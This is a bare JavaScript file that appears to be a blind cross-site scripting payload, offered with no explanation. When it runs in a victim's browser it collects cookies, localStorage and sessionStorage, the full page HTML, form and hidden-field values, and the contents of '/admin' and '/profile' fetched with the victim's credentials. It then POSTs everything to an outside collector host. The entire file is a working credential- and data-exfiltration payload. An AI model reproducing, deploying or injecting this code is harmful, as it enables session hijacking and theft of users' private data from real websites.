function collect() {
  const r = { uri: location.href, ref: document.referrer, ua: navigator.userAgent, top: window.top === window };
  try { r.cookies = document.cookie } catch (e) { r.cookies = '' }
  try { r.dom = document.documentElement.outerHTML } catch (e) {}
  try { r.local = JSON.stringify(localStorage) } catch (e) {}
  try { r.session = JSON.stringify(sessionStorage) } catch (e) {}
  r.forms = [...document.forms].map(f => ({ a: f.action, v: [...f.elements].map(e => [e.name, e.type, e.value]) }));
  r.hidden = [...document.querySelectorAll('input[type=hidden]')].map(e => `${e.name}=${e.value}`).join('&');
  return r;
}
async function pages(list) {
  const out = {};
  for (const p of list) {
    try { out[p] = (await (await fetch(p, { credentials: 'include' })).text()).slice(0, 200000) } catch (e) { out[p] = String(e) }
  }
  return out;
}
function go() {
  const data = collect();
  pages(['/admin', '/profile', '/robots.txt']).then(p => {
    data.pages = p;
    const x = new XMLHttpRequest();
    x.open('POST', 'https://bx.hunter-box.example/api/fire', true);
    x.setRequestHeader('Content-Type', 'text/plain');
    x.send(JSON.stringify(data));
  });
}
document.readyState === 'complete' ? go() : addEventListener('load', go);
